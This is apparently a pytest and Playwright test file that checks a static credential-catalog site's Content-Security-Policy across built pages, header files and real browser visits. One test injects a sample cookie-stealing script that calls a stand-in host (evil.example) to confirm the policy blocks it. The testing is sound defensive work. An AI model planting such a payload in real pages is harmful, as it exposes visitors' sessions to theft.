"""The site runs under a Content-Security-Policy: should anything hostile ever reach a page (a
name, a spec, a pasted link), the browser runs no script and loads no style the site did not
ship. Every page carries the policy in a <meta> before any script; hosts that take header files
(Netlify, Cloudflare Pages) get `_headers`, which adds what only a header can (frame-ancestors),
and the embeddable cards stay embeddable by other sites.

The policy is enforced in a real browser on every kind of page, each used as a visitor would
(search, filters, copy, QR, baking, a real verification, an embed, a redirect, the 404 page):
any violation fails the test.
"""

from __future__ import annotations

import base64
import csv
import datetime as dt
import hashlib
import re
from pathlib import Path
from urllib.parse import urlsplit

from browser_support import TIMEOUT_MS
from conftest import copy_project, run_cli
from playwright.sync_api import expect

META = re.compile(rb'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')
SCRIPT = re.compile(rb"<script\b([^>]*)>(.*?)</script\s*>", re.S | re.I)
STYLE = re.compile(rb"<style\b[^>]*>(.*?)</style\s*>", re.S | re.I)
# A real attribute in markup (escaped text, such as the iframe snippet in a textarea, has no '<').
INLINE_ATTRIBUTE = re.compile(rb"<[a-zA-Z][^<>]*\s(?:style|on[a-z]+)\s*=", re.I)
NOT_SCRIPT_TYPES = (b"application/json", b"application/ld+json")


def policy(text: str) -> dict[str, list[str]]:
    directives: dict[str, list[str]] = {}
    for part in text.split(";"):
        words = part.split()
        if words:
            directives[words[0].lower()] = words[1:]
    return directives


def sha256(body: bytes) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(body).digest()).decode() + "'"


def html_files(site: Path) -> list[Path]:
    files = sorted(site.rglob("*.html"))
    assert len(files) > 50
    return files


# --------------------------------------------------------------------------- every page, as built


def test_every_page_carries_a_policy_that_allows_only_the_code_it_ships(live_site) -> None:  # noqa: ANN001
    project, _ = live_site
    site = project / "site"
    for path in html_files(site):
        page = path.read_bytes()
        name = path.relative_to(site).as_posix()
        metas = META.findall(page)
        assert len(metas) == 1, f"{name}: {len(metas)} Content-Security-Policy meta elements, want 1"
        meta_at = META.search(page).start()  # type: ignore[union-attr]
        head_end = page.find(b"</head>")
        assert 0 < meta_at < head_end, f"{name}: the policy is not in <head>"
        for first in (b"<script", b"<style", b"<link"):
            at = page.find(first)
            assert at == -1 or meta_at < at, f"{name}: {first.decode()} comes before the policy"
        rules = policy(metas[0].decode())
        assert rules.get("default-src") == ["'self'"], name
        assert rules.get("object-src") == ["'none'"], name
        assert rules.get("base-uri") == ["'self'"], name
        assert rules.get("form-action") == ["'self'"], name
        assert "frame-ancestors" not in rules, f"{name}: frame-ancestors is ignored in a meta (header only)"
        for directive, sources in rules.items():
            for unsafe in ("'unsafe-inline'", "'unsafe-eval'", "'unsafe-hashes'", "*", "data:"):
                if directive in ("script-src", "style-src", "default-src"):
                    assert unsafe not in sources, f"{name}: {directive} allows {unsafe}"
        # Exactly the inline scripts and style blocks the page holds are allowed, by hash.
        scripts = {
            sha256(body)
            for attributes, body in SCRIPT.findall(page)
            if b"src=" not in attributes and not any(t in attributes for t in NOT_SCRIPT_TYPES)
        }
        assert set(rules["script-src"]) == {"'self'", *scripts}, name
        styles = {sha256(body) for body in STYLE.findall(page)}
        assert set(rules.get("style-src", ["'self'"])) == {"'self'", *styles}, name
        inline = INLINE_ATTRIBUTE.search(page)
        assert inline is None, f"{name}: an inline style or event attribute: {inline[0][:120]!r}"  # type: ignore[index]


def test_redirect_pages_hold_no_inline_script(live_site) -> None:  # noqa: ANN001
    project, _ = live_site
    redirects = [p for p in html_files(project / "site") if b'http-equiv="refresh"' in p.read_bytes()]
    assert redirects, "the sample has renamed credentials and profiles"
    for path in redirects:
        bodies = [body for attributes, body in SCRIPT.findall(path.read_bytes()) if b"src=" not in attributes]
        assert bodies == [], path


def test_a_script_that_slipped_into_a_pages_content_would_not_be_allowed(live_site, caplog) -> None:  # noqa: ANN001
    """Markdown yields no script (raw HTML is shown as text, the sanitizer allows none); should one
    ever slip through into a page's content, the policy must not bless it with a hash."""
    from cairn.pages.csp import Policy

    project, base = live_site
    built = (project / "site" / "credentials" / "index.html").read_bytes()
    built = META.sub(b"", built)
    slipped = b"<script>fetch('https://evil.example/?'+document.cookie)</script><style>body{display:none}</style>"
    opening = b'<article class="md-content__inner md-typeset">'
    assert built.count(opening) == 1
    page = Policy(base).secure(built.replace(opening, opening + slipped), "credentials/index.html")
    rules = policy(META.findall(page)[0].decode())
    assert sha256(b"fetch('https://evil.example/?'+document.cookie)") not in rules["script-src"]
    assert sha256(b"body{display:none}") not in rules["style-src"]
    material = [
        body for attributes, body in SCRIPT.findall(built) if b"src=" not in attributes and b"json" not in attributes
    ]
    assert material and all(sha256(body) in rules["script-src"] for body in material), "Material's own scripts"
    assert "credentials/index.html" in caplog.text


# --------------------------------------------------------------------------- header files


def header_rules(text: str) -> list[tuple[str, dict[str, str]]]:
    """A Netlify / Cloudflare Pages `_headers` file: (path pattern, {header: value}) in order."""
    rules: list[tuple[str, dict[str, str]]] = []
    for number, line in enumerate(text.splitlines(), 1):
        if not line.strip() or line.lstrip().startswith("#"):
            continue
        if not line[0].isspace():
            assert line.startswith("/"), f"_headers:{number}: a path must start with /"
            rules.append((line.strip(), {}))
        else:
            name, _, value = line.strip().partition(":")
            assert rules and value, f"_headers:{number}: not a header of a path"
            assert name not in rules[-1][1], f"_headers:{number}: {name} twice"
            rules[-1][1][name] = value.strip()
    return rules


def matches(pattern: str, path: str) -> bool:
    if pattern.endswith("/*"):
        return path.startswith(pattern[:-1])
    return path == pattern


def test_hosts_that_take_header_files_get_frame_ancestors_and_embeds_stay_embeddable(live_site) -> None:  # noqa: ANN001
    project, _ = live_site
    site = project / "site"
    headers = site / "_headers"
    assert headers.is_file(), "the site has no _headers file for Netlify and Cloudflare Pages"
    text = headers.read_text(encoding="utf-8")
    assert all(len(line) <= 2000 for line in text.splitlines()), "Cloudflare Pages reads lines of 2,000 characters"
    rules = header_rules(text)
    assert len(rules) <= 100, "Cloudflare Pages reads 100 rules"
    embeds = 0
    for path in html_files(site):
        relative = path.relative_to(site).as_posix()
        urls = ["/" + relative]
        if relative.endswith("index.html"):
            urls.append("/" + relative.removesuffix("index.html"))
        for url in urls:
            # Rules that match the same path are joined with commas: two policies, both enforced.
            found = [
                h["Content-Security-Policy"] for p, h in rules if matches(p, url) and "Content-Security-Policy" in h
            ]
            assert len(found) == 1, f"{url}: {len(found)} rules set the policy"
            rules_here = policy(found[0])
            assert rules_here.get("object-src") == ["'none'"], url
            assert rules_here.get("base-uri") == ["'self'"], url
            if relative.startswith("embed/"):
                embeds += 1
                assert rules_here.get("frame-ancestors", ["*"]) == ["*"], f"{url}: other sites may not embed it"
            else:
                assert rules_here.get("frame-ancestors") == ["'self'"], f"{url}: any site may frame it"
    assert embeds


def test_a_districts_own_header_rules_add_to_the_policy_never_replace_it(project: Path) -> None:
    (project / "content" / "_headers").write_text(
        "/embed/*\n  X-Frame-Options: DENY\n/*\n  Cache-Control: max-age=600\n"
    )
    assert run_cli(project, "build") == 0
    rules = header_rules((project / "site" / "_headers").read_text(encoding="utf-8"))
    assert ("/*", {"Cache-Control": "max-age=600"}) in rules, "the district's rule was dropped"
    assert ("/embed/*", {"X-Frame-Options": "DENY"}) in rules, "the district's rule was dropped"
    framed = [
        h["Content-Security-Policy"] for p, h in rules if p == "/credentials/*" and "Content-Security-Policy" in h
    ]
    assert framed and "frame-ancestors 'self'" in framed[0], "Cairn's policy was dropped"


# --------------------------------------------------------------------------- a visitor's browser

RECORD_VIOLATIONS = """
window.__cspViolations = [];
document.addEventListener("securitypolicyviolation", (e) => {
  window.__cspViolations.push(`${e.violatedDirective} blocked ${e.blockedURI || "inline"} `
    + `(${e.sourceFile || location.href}:${e.lineNumber}) ${(e.sample || "").slice(0, 80)}`);
});
"""


class Visit:
    """One tab with the policy enforced; each page opened through it is checked for the meta and
    for violations, whether the browser reports them as events or on the console."""

    def __init__(self, page, base: str) -> None:  # noqa: ANN001
        self.page, self.base = page, base
        self.console: list[str] = []
        page.add_init_script(RECORD_VIOLATIONS)
        page.on("console", self._console)
        page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=base.rstrip("/"))

    def _console(self, message) -> None:  # noqa: ANN001
        if "Content Security Policy" in message.text or "Content-Security-Policy" in message.text:
            self.console.append(f"{message.type}: {message.text} (on {self.page.url})")

    def open(self, path: str) -> None:
        response = self.page.goto(self.base + path)
        assert response is not None and response.ok, path
        self.page.wait_for_load_state("load")
        meta = self.page.locator('head meta[http-equiv="Content-Security-Policy"]')
        assert meta.count() == 1, f"/{path}: no Content-Security-Policy meta"

    def check(self, what: str) -> None:
        violations = self.page.evaluate("window.__cspViolations || []")
        assert not violations and not self.console, f"{what}: the policy was violated:\n  " + "\n  ".join(
            [*violations, *self.console]
        )


def first_link(site: Path, folder: str, must_hold: bytes = b"") -> str:
    for path in sorted((site / folder).glob("*/index.html")):
        page = path.read_bytes()
        if b'http-equiv="refresh"' not in page and must_hold in page:
            return path.parent.relative_to(site).as_posix() + "/"
    raise AssertionError(f"no page in {folder}/ holds {must_hold!r}")


def current_award(project: Path) -> tuple[str, bool]:
    """An award current today, and whether its Open Badges 3.0 credential is public."""
    today = dt.date.today().isoformat()
    with (project / "build" / "award-links.csv").open(encoding="utf-8", newline="") as file:
        for row in csv.DictReader(file):
            if not row["revoked_on"] and row["issued"] <= today and (not row["expires"] or row["expires"] > today):
                award = urlsplit(row["assertion_url"]).path.rsplit("/", 1)[1].removesuffix(".json")
                if (project / "site" / "ob3" / f"{award}.json").is_file():
                    return award, True
    raise AssertionError("the sample has no current award with a public credential")


def test_every_kind_of_page_works_with_the_policy_enforced(page, live_site) -> None:  # noqa: ANN001
    project, base = live_site
    site = project / "site"
    visit = Visit(page, base)

    visit.open("")
    page.keyboard.press("/")  # Material's shortcut for its search box (the index is read by a worker)
    page.locator("input.md-search__input").press_sequentially("assessment", delay=20)
    expect(page.locator(".md-search-result__item").first).to_be_visible(timeout=TIMEOUT_MS)
    visit.check("home page and site search")

    visit.open("credentials/")
    expect(page.locator("#cairn-filters")).to_be_visible()
    page.locator("#filter-level").select_option(index=1)
    expect(page.locator("#cairn-count")).not_to_be_empty()
    visit.check("catalog with filters")

    visit.open(first_link(site, "credentials", b"cairn-copy"))
    button = page.locator("a.cairn-copy").first
    button.click()
    expect(button).to_have_text("Link copied")
    page.wait_for_function(
        "img => img.complete && img.naturalWidth > 0", arg=page.locator(".cairn-qr img").element_handle()
    )
    visit.check("credential page, copy button and QR code")

    for path in ("stacks/", first_link(site, "stacks"), "topics/", first_link(site, "topics"), "schools/",
                 first_link(site, "schools")):  # fmt: skip
        visit.open(path)
        visit.check(path)

    visit.open("experts/")
    expect(page.locator("#cairn-expert-filters")).to_be_visible()
    page.locator("#expert-topic").select_option(index=1)
    expect(page.locator("#cairn-expert-count")).not_to_be_empty()
    visit.check("experts with filters")

    visit.open(first_link(site, "earners", b"data-bake"))
    with page.expect_download() as download:
        page.locator("a.cairn-download").first.click()
    assert Path(download.value.path()).read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    visit.check("profile, baking a badge")

    award, _ = current_award(project)
    for query in (f"?a={award}", f"?c={award}"):  # Open Badges 2.0, then 3.0 (the bundled DCC verifier)
        visit.open("verify/" + query)
        verdict = page.locator("#verify-result .cairn-verdict")
        expect(verdict).not_to_have_text("Checking…", timeout=TIMEOUT_MS * 2)
        assert verdict.inner_text().strip() == "Valid", query
        visit.check(f"verify page checking {query}")

    visit.open(first_link(site, "embed/credentials"))
    radius = page.locator(".card").evaluate("card => getComputedStyle(card).borderTopLeftRadius")
    assert radius == "8px", "the embed card's style did not apply"
    visit.check("embed card")

    old = next(
        p.parent.relative_to(site).as_posix() + "/"
        for p in html_files(site)
        if b'http-equiv="refresh"' in p.read_bytes()
    )
    page.goto(f"{base}{old}?from=edcamp#badges")
    page.wait_for_url(re.compile(r".*\?from=edcamp#badges$"))
    assert page.url != f"{base}{old}?from=edcamp#badges"
    visit.check("redirect page")

    visit.open("404.html")
    visit.check("404 page")


# --------------------------------------------------------------------------- the local preview server


def test_the_local_preview_relaxes_scripts_only_for_its_reload_script(tmp_path: Path) -> None:
    """`build.py serve` adds a live-reload script to every page, whose text changes with each
    build: there (only there) inline scripts are allowed; the rest of the policy holds."""
    import cairn  # noqa: F401 (chooses MkDocs or ProperDocs before mkdocs is imported)
    from mkdocs.commands.build import build
    from mkdocs.config import load_config

    project = copy_project(tmp_path / "district")
    config = load_config(config_file=str(project / "mkdocs.yml"), site_dir=str(project / "preview"))
    config.plugins.on_startup(command="serve", dirty=False)
    try:
        build(config, serve_url=config.site_url)
    finally:
        config.plugins.on_shutdown()  # the plugin outlives this build in the process: reset it
    page = (project / "preview" / "credentials" / "index.html").read_bytes()
    metas = META.findall(page)
    assert len(metas) == 1, "the preview has no policy"
    rules = policy(metas[0].decode())
    assert rules["script-src"] == ["'self'", "'unsafe-inline'"]
    assert rules["object-src"] == ["'none'"] and rules["default-src"] == ["'self'"]
    # The same process builds the real site next: the preview's allowance must not follow it.
    assert run_cli(project, "build") == 0
    assert b"'unsafe-inline'" not in (project / "site" / "credentials" / "index.html").read_bytes()
